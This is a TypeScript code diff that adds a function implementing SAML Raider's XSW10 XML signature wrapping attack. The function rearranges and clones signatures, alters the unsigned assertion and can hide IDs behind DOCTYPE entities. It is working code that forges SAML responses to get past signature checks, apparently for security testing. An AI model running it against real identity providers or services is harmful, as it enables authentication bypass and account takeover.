@@ -87,6 +87,42 @@ const XSW: Record<number, (doc: Document) => void> = {
   },
 };
 
+/**
+ * SAML Raider's XSW10 (needs Response and Assertion signed): drop the Response signature, put a
+ * copy of the Assertion signature after the Response Issuer with the original Assertion inside a
+ * ds:Object, rename and unsign the top-level Assertion. With `entities`, the IDs are hidden behind
+ * DOCTYPE entities exactly as SAML Raider's applyDOCTYPE does.
+ */
+export function applyXsw10(xml: string, entities: boolean): string {
+  let objectAssertionId = '';
+  const out = mutate(xml, (doc) => {
+    const response = responseOf(doc);
+    const assertion = assertionOf(doc);
+    const responseSignature = descendants(response, 'Signature').find((s) => s.parentNode === response);
+    if (responseSignature) response.removeChild(responseSignature);
+    const assertionSignature = firstSignature(assertion);
+    const clonedSignature = assertionSignature.cloneNode(true) as Element;
+    const issuer = descendants(response, 'Issuer')[0]!;
+    response.insertBefore(clonedSignature, issuer.nextSibling);
+    const object = doc.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'Object');
+    object.setAttribute('xmlns', 'http://www.w3.org/2000/09/xmldsig#');
+    clonedSignature.appendChild(object);
+    const copy = assertion.cloneNode(true) as Element;
+    object.appendChild(copy);
+    objectAssertionId = copy.getAttribute('ID')!;
+    makeEvil(assertion);
+    assertion.setAttribute('ID', `${objectAssertionId}ffff`);
+    assertion.removeChild(assertionSignature);
+    if (entities) {
+      response.setAttribute('ID', '&idViaEntity;');
+      copy.setAttribute('ID', `&BypassIDUniqueness;${objectAssertionId}`);
+    }
+  });
+  if (!entities) return out;
+  const doctype = `<!DOCTYPE response [\n<!ENTITY idViaEntity "${objectAssertionId}">\n<!ENTITY BypassIDUniqueness "&#x50;">\n]>`;
+  return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}${out.replace(/^<\?xml[^>]*\?>/, '').replace(/&amp;/g, '&')}`;
+}
+
 /** Apply SAML Raider's XSW`n` (1–8) to a signed response. */
 export function applyXsw(n: number, xml: string): string {
   const attack = XSW[n];
